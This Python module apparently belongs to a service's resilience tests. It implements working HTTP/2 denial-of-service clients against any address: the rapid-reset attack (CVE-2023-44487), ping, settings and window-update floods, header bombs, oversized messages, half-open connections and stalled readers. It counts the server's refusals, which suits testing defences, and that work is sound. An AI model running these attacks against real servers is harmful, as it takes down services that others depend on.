"""Clients that mean harm. `python -m faults.hostile HOST:PORT ATTACK COUNT` is one, in a process of its own.

It prints one line of JSON when it has done what it came for, and holds on to what it has until its input ends.
"""

import json
import select
import socket
import struct
import sys
from collections import Counter
from collections.abc import Callable
from contextlib import suppress

from entrypoints.grpc_api.gen.vidacoach.agents.v1 import agent_service_pb2 as agents_api
from entrypoints.grpc_api.gen.vidacoach.agents.v1 import resources_pb2 as pb
from entrypoints.grpc_api.gen.vidacoach.agents.v1 import thread_service_pb2 as threads_api
from http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEAD,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    WINDOW_UPDATE,
    frame,
    header,
    message,
    request_headers,
    settings,
)

LIST = "/vidacoach.agents.v1.ThreadService/ListThreads"
CHAT = "/vidacoach.agents.v1.AgentService/Chat"

TOGETHER = 100
"""How many of its small deeds it sends in one piece."""
LARGE = 16_384
"""Octets; no frame may be larger unless the server allows it."""
PATIENCE = 10
"""Seconds for which it waits to be read."""
LARGEST_WINDOW = struct.pack(">L", 2**31 - 1 - 65_535)


_HELD: list[object] = []
"""What is kept open to the end."""


class Enemy:
    """Sends what it likes, on a new connection where the last one was closed to it; looks at what comes back."""

    def __init__(self, address: str, **own: int) -> None:
        host, port = address.rsplit(":", 1)
        self._address = (host, int(port))
        self._settings = settings(**own)
        self._rest = b""
        self._socket: socket.socket | None = None
        self.stream = 1
        self.done: Counter[str] = Counter()

    def headers(self, method: str) -> bytes:
        """Headers of a call of this server."""
        return request_headers(f"{self._address[0]}:{self._address[1]}", method)

    def send(self, data: bytes, deeds: int) -> None:
        """Sends so many deeds in one piece; on another connection where this one was closed for the last ones."""
        for _ in range(2):
            try:
                self._send(data)
                self.done["deeds"] += deeds
            except OSError:
                self._close()
            else:
                return

    def _send(self, data: bytes) -> None:
        """Sends, and takes what comes meanwhile: who does not read is not read for long."""
        connection, rest = self._connected(), memoryview(data)
        while rest:
            readable, writable, _ = select.select([connection], [connection], [], PATIENCE)
            if not (readable or writable):
                raise TimeoutError
            if readable:
                self._look()
            if writable:
                rest = rest[connection.send(rest) :]

    def _connected(self) -> socket.socket:
        if self._socket is None:
            self._socket = socket.create_connection(self._address)
            self._socket.sendall(PREFACE + self._settings + frame(WINDOW_UPDATE, 0, 0, LARGEST_WINDOW))
            self._socket.setblocking(False)
            self._rest = b""
            self.done["connections"] += 1
        return self._socket

    def next_stream(self) -> int:
        """A number that no stream has had."""
        self.stream += 2
        return self.stream - 2

    def _look(self) -> None:
        """Takes what has come, so that nobody is held up by it, and counts the frames."""
        assert self._socket is not None
        with suppress(BlockingIOError):
            while True:
                data = self._socket.recv(1 << 18)
                if not data:
                    raise ConnectionResetError
                self._count(data)

    def _count(self, data: bytes) -> None:
        data = self._rest + data
        at = 0
        while len(data) - at >= HEAD.size:
            high, low, kind, _, _ = HEAD.unpack_from(data, at)
            at_next = at + HEAD.size + (high << 8 | low)
            if at_next > len(data):
                break
            self.done["sent away"] += kind == GOAWAY
            self.done["refused"] += kind == RST_STREAM
            at = at_next
        self._rest = data[at:]

    def _close(self) -> None:
        if self._socket is not None:
            self._socket.close()
        self._socket = None


def _resets(enemy: Enemy, count: int, body: bytes, method: str) -> None:
    """Opens streams and takes each back at once (CVE-2023-44487)."""
    block = enemy.headers(method)
    for _ in range(count // TOGETHER):
        piece = b""
        for _ in range(TOGETHER):
            stream = enemy.next_stream()
            piece += frame(HEADERS, END_HEADERS, stream, block)
            piece += frame(DATA, END_STREAM, stream, body) if body else b""
            piece += frame(RST_STREAM, 0, stream, CANCEL)
        enemy.send(piece, TOGETHER)


def rapid_resets(address: str, count: int) -> Counter[str]:
    """Streams that are opened and taken back before their request has come."""
    enemy = Enemy(address)
    _resets(enemy, count, b"", CHAT)
    return enemy.done


def rapid_requests(address: str, count: int) -> Counter[str]:
    """The same with whole requests."""
    enemy = Enemy(address)
    _resets(enemy, count, message(threads_api.ListThreadsRequest(user_id="eve").SerializeToString()), LIST)
    return enemy.done


def requests(address: str, count: int) -> Counter[str]:
    """Whole requests, more than are answered at a time, none taken back."""
    enemy = Enemy(address)
    body = message(threads_api.ListThreadsRequest(user_id="eve").SerializeToString())
    block = enemy.headers(LIST)
    for _ in range(count // TOGETHER):
        piece = b""
        for _ in range(TOGETHER):
            stream = enemy.next_stream()
            piece += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
        enemy.send(piece, TOGETHER)
    return enemy.done


def _frames(enemy: Enemy, count: int, one: Callable[[], bytes]) -> Counter[str]:
    for _ in range(count // TOGETHER):
        enemy.send(b"".join(one() for _ in range(TOGETHER)), TOGETHER)
    return enemy.done


def pings(address: str, count: int) -> Counter[str]:
    """Pings without end."""
    return _frames(Enemy(address), count, lambda: frame(PING, 0, 0, b"\0" * 8))


def settings_flood(address: str, count: int) -> Counter[str]:
    """Settings without end, each of which wants an answer."""
    return _frames(Enemy(address), count, lambda: settings(initial_window_size=1_000))


def window_updates(address: str, count: int) -> Counter[str]:
    """Windows that grow by one octet at a time."""
    return _frames(Enemy(address), count, lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)))


def empty_data(address: str, count: int) -> Counter[str]:
    """A request of nothing, in pieces."""
    enemy = Enemy(address)

    def one() -> bytes:
        stream = enemy.next_stream()
        head = frame(HEADERS, END_HEADERS, stream, enemy.headers(LIST))
        return head + frame(DATA, 0, stream, b"") * TOGETHER

    for _ in range(count // TOGETHER):
        enemy.send(one(), TOGETHER)
    return enemy.done


def header_bombs(address: str, count: int) -> Counter[str]:
    """Headers larger than anybody needs, in one frame and over many."""
    enemy = Enemy(address)
    bombs: list[Callable[[int], bytes]] = [
        lambda stream: frame(HEADERS, END_HEADERS, stream, enemy.headers(LIST) + header("x-big", "x" * 14_000)),
        lambda stream: frame(
            HEADERS,
            END_HEADERS,
            stream,
            enemy.headers(LIST) + b"".join(header(f"x-{n}", "x") for n in range(1_500)),
        ),
        lambda stream: (
            frame(HEADERS, 0, stream, enemy.headers(LIST))
            + frame(CONTINUATION, 0, stream, header("x-more", "x" * 16_000)) * 20
        ),
    ]
    for number in range(count):
        enemy.send(bombs[number % len(bombs)](enemy.next_stream()), 1)
    return enemy.done


def huge_messages(address: str, count: int) -> Counter[str]:
    """Requests that say they are as large as a length can say."""
    enemy = Enemy(address)
    for _ in range(count):
        stream = enemy.next_stream()
        body = b"\0\xff\xff\xff\xff" + b"x" * (LARGE - 5)
        head = frame(HEADERS, END_HEADERS, stream, enemy.headers(CHAT))
        enemy.send(head + frame(DATA, 0, stream, body), 1)
    return enemy.done


def half_open(address: str, count: int) -> Counter[str]:
    """Connections that never get further than the first half of the first line."""
    done: Counter[str] = Counter()
    host, port = address.rsplit(":", 1)
    for _ in range(count):
        held = socket.create_connection((host, int(port)))
        held.sendall(PREFACE[:10])
        _HELD.append(held)
        done["deeds"] += 1
    return done


def stalled_readers(address: str, count: int) -> Counter[str]:
    """Readers of long replies who take not one octet of them."""
    done: Counter[str] = Counter()
    for number in range(count):
        enemy = Enemy(address, initial_window_size=0)
        request = agents_api.ChatRequest(
            user_id=f"eve{number}", content=[pb.ContentPart(text="words:2000 pace:1000")]
        )
        stream = enemy.next_stream()
        body = frame(DATA, END_STREAM, stream, message(request.SerializeToString()))
        enemy.send(frame(HEADERS, END_HEADERS, stream, enemy.headers(CHAT)) + body, 1)
        _HELD.append(enemy)
        done += enemy.done
    return done


ATTACKS: dict[str, Callable[[str, int], Counter[str]]] = {
    attack.__name__: attack
    for attack in (
        rapid_resets,
        rapid_requests,
        requests,
        pings,
        settings_flood,
        window_updates,
        empty_data,
        header_bombs,
        huge_messages,
        half_open,
        stalled_readers,
    )
}


if __name__ == "__main__":
    _address, _attack, _count = sys.argv[1:]
    print(json.dumps(ATTACKS[_attack](_address, int(_count))), flush=True)
    sys.stdin.read()
